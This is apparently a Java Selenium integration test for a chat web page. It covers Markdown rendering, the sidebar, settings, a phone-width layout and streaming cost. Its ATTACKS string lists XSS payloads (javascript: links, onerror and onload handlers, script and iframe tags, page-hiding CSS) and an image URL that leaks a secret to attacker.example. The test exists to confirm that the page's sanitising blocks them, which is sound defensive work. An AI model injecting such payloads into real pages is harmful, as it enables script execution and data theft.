package dev.chatws.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.List;
import java.util.Map;
import org.jboss.arquillian.container.test.api.Deployer;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;
import org.openqa.selenium.Dimension;
import org.openqa.selenium.Keys;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.TakesScreenshot;
import org.openqa.selenium.WebElement;

/**
 * The chat page as people use it, in real Chromium: answers rendered as Markdown (marked and
 * DOMPurify from the WAR) with copy buttons on code, and nothing a model writes able to run script
 * or restyle the page; the sidebar (new chat, open, rename, delete), the settings dialog, keyboard
 * use and a 360 px wide screen; and what rendering a long streamed reply costs the main thread.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class ChatPageIT {

    private static final String NAME = "chat-page";
    private static final String PAGE = "http://localhost:" + Deployments.HTTP_PORT + "/" + NAME + "/";
    /** Through the simulator, which says the user's words back: Markdown and every trick we know. */
    private static final String MARKDOWN = "\n\n## Plan\n\n**bold**, _soft_ and `inline code`\n\n- one\n- two\n\n"
            + "```js\nconst x = 1 < 2;\n```\n\n"
            + "[a safe link](https://example.com/docs) and <https://example.org>\n\n";
    private static final String ATTACKS = "\n\n[js](javascript:window.__pwned=1) [JS](JaVaScRiPt:window.__pwned=2) [data](data:text/html,x)"
            + " <javascript:window.__pwned=3> [t](https://example.com \"x\\\" onmouseover=\\\"window.__pwned=4\")\n\n"
            + "<img src=x onerror=\"window.__pwned=5\"> <script>window.__pwned=6</script> <svg onload=\"window.__pwned=7\"><circle r=9></svg>"
            + " <a href=\"javascript:window.__pwned=8\">raw link</a> <iframe src=\"javascript:window.__pwned=9\"></iframe>"
            + " <style>*{display:none!important}</style> <div style=\"position:fixed;inset:0;background:red\">cover</div>\n\n"
            + "![pixel](https://attacker.example/leak.png?q=secret) ![x](javascript:window.__pwned=10)\n\n"
            + "<details open><summary>s</summary><p onclick=\"window.__pwned=11\">p</p></details>\n\n";

    private static final String ISSUER = "https://issuer.chat-ws.test";
    private static final java.security.KeyPair KEYS = AuthIT.rsa();

    @ArquillianResource
    Deployer deployer;

    private PageDriver page;

    @Deployment(name = NAME, managed = false, testable = false)
    static WebArchive deployment() {
        return Deployments.simulated(NAME, "chat.simulator.tokens-per-second=400", "chat.simulator.first-token-delay=0",
                "mp.jwt.verify.publickey=" + java.util.Base64.getEncoder().encodeToString(KEYS.getPublic().getEncoded()),
                "mp.jwt.verify.issuer=" + ISSUER);
    }

    @BeforeEach
    void open() throws Exception {
        PageDriver.assumeChromium();
        deployer.deploy(NAME);
        page = PageDriver.start(1100, 760);
        page.browser.get(PAGE);
        page.waitForStatus("Connected");
    }

    @AfterEach
    void close() {
        if (page != null) {
            page.close();
            deployer.undeploy(NAME);
        }
    }

    private List<WebElement> inAnswer(String css) {
        return page.shadow().findElements(By.cssSelector(".assistant .content " + css));
    }

    @Test
    void anAnswerIsMarkdownAndNothingInItRunsScriptOrRestylesThePage() throws Exception {
        page.send("Show me Markdown." + MARKDOWN + ATTACKS);
        page.awaitAnswer();
        assertEquals("Plan", inAnswer("h2").get(0).getText());
        assertEquals("bold", inAnswer("strong").get(0).getText());
        assertEquals(2, inAnswer("li").size());
        assertEquals("const x = 1 < 2;", inAnswer("pre code").get(0).getText());
        WebElement copy = inAnswer(".code button.copy").get(0);
        assertEquals("Copy code", copy.getAttribute("aria-label"));
        copy.click();
        page.wait.until(b -> !copy.getText().equals("Copy"));

        List<WebElement> links = inAnswer("a[href]");
        assertFalse(links.isEmpty());
        for (WebElement link : links) {
            String href = link.getAttribute("href");
            assertTrue(href.startsWith("https://") || href.startsWith("http://"), href);
            assertEquals("_blank", link.getAttribute("target"));
            assertTrue(link.getAttribute("rel").contains("noopener"), link.getAttribute("rel"));
        }
        assertTrue(links.stream().anyMatch(link -> link.getText().equals("[image: pixel]")), "an image is a link to it, not loaded");
        for (String tag : List.of("script", "img", "svg", "iframe", "style", "details", "form", "input")) {
            assertTrue(inAnswer(tag).isEmpty(), tag);
        }
        Object handlers = page.script("return [...document.querySelector('chat-ws').shadowRoot.querySelectorAll('.log *')]"
                + ".flatMap(e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on') || n === 'style')");
        assertEquals(List.of(), handlers, "no event handler or style attribute");
        assertTrue(page.assistantText().contains("<script>window.__pwned=6</script>"), "raw HTML is shown as text");
        for (WebElement element : inAnswer("a")) {
            new org.openqa.selenium.interactions.Actions(page.browser).moveToElement(element).perform();
            if (element.getAttribute("href") == null) {
                element.click();
            }
        }
        assertNull(page.script("return window.__pwned"), "no payload ran");
        assertThrows(NoAlertPresentException.class, () -> page.browser.switchTo().alert());
        assertEquals(1, page.browser.getWindowHandles().size(), "no link opened anything");
        assertEquals("block", page.script("return getComputedStyle(document.querySelector('chat-ws')).display"), "the page is not restyled");
    }

    @Test
    void theSidebarMakesOpensRenamesAndDeletesChatsAndTheSettingsApply() throws Exception {
        page.type("first chat");
        page.awaitAnswer();
        String first = conversationId();
        page.wait.until(b -> sidebarTitles().size() == 1);
        click("nav button.new");
        page.wait.until(b -> page.userTexts().isEmpty() && "New chat".equals(text("h2.title")));
        page.type("second chat");
        page.awaitAnswer();
        String second = conversationId();
        page.wait.until(b -> sidebarTitles().size() == 2);
        assertEquals("true", page.shadow().findElements(By.cssSelector("nav li")).get(0).findElement(By.cssSelector(".open")).getAttribute("aria-current"),
                "the open chat is marked, and first: most recent first");

        page.shadow().findElements(By.cssSelector("nav li")).get(1).findElement(By.cssSelector(".open")).click();
        page.wait.until(b -> page.userTexts().equals(List.of("first chat")));
        assertEquals(first, conversationId());

        page.shadow().findElements(By.cssSelector("nav li")).get(0).findElement(By.cssSelector(".rename")).click();
        WebElement title = page.shadow().findElement(By.cssSelector("nav li input"));
        title.sendKeys("Renamed chat", Keys.ENTER);
        page.wait.until(b -> sidebarTitles().contains("Renamed chat") && "Renamed chat".equals(text("h2.title")));

        WebElement settings = page.shadow().findElement(By.cssSelector("button.settings"));
        settings.click();
        WebElement system = page.shadow().findElement(By.cssSelector("dialog #chat-ws-system"));
        page.wait.until(b -> system.isDisplayed());
        system.sendKeys("Answer briefly.");
        page.shadow().findElement(By.cssSelector("dialog #chat-ws-model")).sendKeys("my-model");
        page.shadow().findElement(By.cssSelector("dialog button.save")).click();
        URI api = URI.create(PAGE).resolve("api/conversations/" + first);
        page.wait.until(b -> ChatClient.http("GET", api, null, null).body().contains("\"system\":\"Answer briefly.\""));
        assertTrue(ChatClient.http("GET", api, null, null).body().contains("\"model\":\"my-model\""));
        assertEquals("settings", page.script("const a = document.querySelector('chat-ws').shadowRoot.activeElement; return a && a.className"),
                "focus went back to the Settings button");
        settings.click();
        page.shadow().findElement(By.cssSelector("dialog #chat-ws-title")).sendKeys(Keys.ESCAPE);
        page.wait.until(b -> !page.shadow().findElement(By.cssSelector("dialog")).isDisplayed());

        page.send("Show me Markdown, please." + MARKDOWN);
        page.wait.until(b -> !inAnswer("pre code").isEmpty() && !page.usageShown().isEmpty());
        // The README's screenshot (docs/chat-page.png is a copy of it).
        Files.copy(((TakesScreenshot) page.browser).getScreenshotAs(OutputType.FILE).toPath(), Path.of("target/chat-page-sidebar.png"),
                StandardCopyOption.REPLACE_EXISTING);

        WebElement secondRow = page.shadow().findElements(By.cssSelector("nav li")).get(1);
        secondRow.findElement(By.cssSelector(".delete")).click();
        page.shadow().findElements(By.cssSelector("nav li")).get(1).findElement(By.cssSelector(".delete")).click();
        page.wait.until(b -> sidebarTitles().size() == 1);
        assertEquals(404, ChatClient.http("GET", URI.create(PAGE).resolve("api/conversations/" + second), null, null).statusCode(), "deleted on the server");
        assertEquals(200, ChatClient.http("GET", api, null, null).statusCode(), "the other one is kept");
    }

    @Test
    void withATokenTheSidebarListsTheUsersConversationsFromTheApi() throws Exception {
        String token = AuthIT.token("pia-page-" + System.nanoTime(), ISSUER, KEYS.getPrivate(), 600);
        for (String said : List.of("pia one", "pia two")) {
            try (ChatClient client = ChatClient.connect(URI.create(PAGE), null, Map.of("Authorization", "Bearer " + token))) {
                client.nextJson();
                ConversationStoreIT.turn(client, said);
            }
        }
        page.type("an anonymous chat of this browser");
        page.awaitAnswer();
        // As a portal does: the token provider is set before the component joins the page.
        page.script("const el = document.createElement('chat-ws'); el.setAttribute('sidebar', ''); el.setAttribute('storage-key', 'pia');"
                + " el.tokenProvider = async () => arguments[0]; document.querySelector('chat-ws').replaceWith(el);", token);
        page.waitForStatus("Connected");
        page.wait.until(b -> sidebarTitles().size() == 2);
        page.shadow().findElements(By.cssSelector("nav li")).get(1).findElement(By.cssSelector(".open")).click();
        page.wait.until(b -> page.userTexts().equals(List.of("pia one")));
        page.type("pia three");
        page.awaitAnswer();
        page.wait.until(b -> PageDriver.settled(() -> page.shadow().findElements(By.cssSelector("nav li .open[aria-current]")).size() == 1
                && page.shadow().findElements(By.cssSelector("nav li")).size() == 2));
    }

    @Test
    void atPhoneWidthNothingOverflowsAndTheListIsBehindAButton() throws Exception {
        page.browser.manage().window().setSize(new Dimension(360, 740));
        page.wait.until(b -> ((Number) page.script("return window.innerWidth")).intValue() <= 360);
        page.type("A long reply on a small screen, with a long word: " + "x".repeat(80));
        page.awaitAnswer();
        assertTrue(((Number) page.script("return document.documentElement.scrollWidth - window.innerWidth")).intValue() <= 0, "no sideways scrolling");
        WebElement toggle = page.shadow().findElement(By.cssSelector("button.toggle"));
        WebElement nav = page.shadow().findElement(By.cssSelector("nav"));
        assertTrue(toggle.isDisplayed());
        assertFalse(nav.isDisplayed(), "the list is behind its button");
        assertEquals("false", toggle.getAttribute("aria-expanded"));
        toggle.click();
        page.wait.until(b -> nav.isDisplayed());
        assertEquals("true", toggle.getAttribute("aria-expanded"));
        assertEquals("new", page.script("return document.querySelector('chat-ws').shadowRoot.activeElement.className"), "focus moved into the list");
        Files.copy(((TakesScreenshot) page.browser).getScreenshotAs(OutputType.FILE).toPath(), Path.of("target/chat-page-360.png"),
                StandardCopyOption.REPLACE_EXISTING);
        page.shadow().findElement(By.cssSelector("nav button.new")).click();
        page.wait.until(b -> !nav.isDisplayed());
    }

    /**
     * A 4,000-token reply (16,000 characters of paragraphs, lists and code, in 4-character chunks)
     * streamed into the renderer: what each chunk costs the main thread, against parsing the whole
     * reply again per chunk; and the incremental result is exactly the whole text's rendering.
     */
    @Test
    void aLongStreamedReplyCostsLittlePerChunkAndEndsAsTheWholeRendering() {
        @SuppressWarnings("unchecked")
        Map<String, Object> result = (Map<String, Object>) page.browser.executeAsyncScript("""
                const done = arguments[arguments.length - 1];
                import(new URL('chat-ws-markdown.js', document.baseURI)).then(({ MarkdownStream, renderMarkdown }) => {
                  const section = (i) => `## Part ${i}\\n\\nSome *prose* with \\`code\\` and a [link](https://example.com/${i}).\\n\\n`
                    + `- item one of ${i}\\n- item two\\n\\n\\`\\`\\`js\\nfor (let k = 0; k < ${i}; k++) { total += k; }\\n\\`\\`\\`\\n\\n`;
                  let text = '';
                  for (let i = 0; text.length < 16000; i++) text += section(i);
                  const chunks = text.match(/[\\s\\S]{1,4}/g);
                  const host = document.createElement('div');
                  document.body.append(host);
                  const stream = new MarkdownStream(host);
                  chunks.forEach((c) => stream.append(c));
                  const incremental = stream.stats.ms.slice().sort((a, b) => a - b);
                  stream.finish();
                  const same = host.innerHTML === (() => { const d = document.createElement('div'); d.append(renderMarkdown(text)); return d.innerHTML; })();
                  const whole = [];
                  let sofar = '';
                  for (const c of chunks.slice(0, 1000)) { sofar += c; const t = performance.now(); renderMarkdown(sofar); whole.push(performance.now() - t); }
                  whole.sort((a, b) => a - b);
                  const q = (a, p) => a[Math.min(a.length - 1, Math.floor(a.length * p))];
                  done({ chunks: chunks.length, p50: q(incremental, .5), p99: q(incremental, .99), max: incremental[incremental.length - 1],
                    total: incremental.reduce((a, b) => a + b, 0), wholeP50: q(whole, .5), wholeLast: whole[whole.length - 1], same });
                }).catch((e) => done({ error: String(e) }));
                """);
        System.out.println("Rendering a 4,000-token reply in the browser, ms per chunk: " + result);
        assertNull(result.get("error"));
        assertEquals(Boolean.TRUE, result.get("same"), "the streamed rendering ends as the whole text's");
        assertTrue(((Number) result.get("chunks")).intValue() >= 4000);
    }

    private String conversationId() {
        return (String) page.script("return sessionStorage.getItem('chat-ws.conversation')");
    }

    private List<String> sidebarTitles() {
        return PageDriver.settled(() -> page.shadow().findElements(By.cssSelector("nav li .open")).stream().map(WebElement::getText).toList());
    }

    private String text(String css) {
        return PageDriver.settled(() -> page.shadow().findElement(By.cssSelector(css)).getText());
    }

    private void click(String css) {
        page.shadow().findElement(By.cssSelector(css)).click();
    }
}
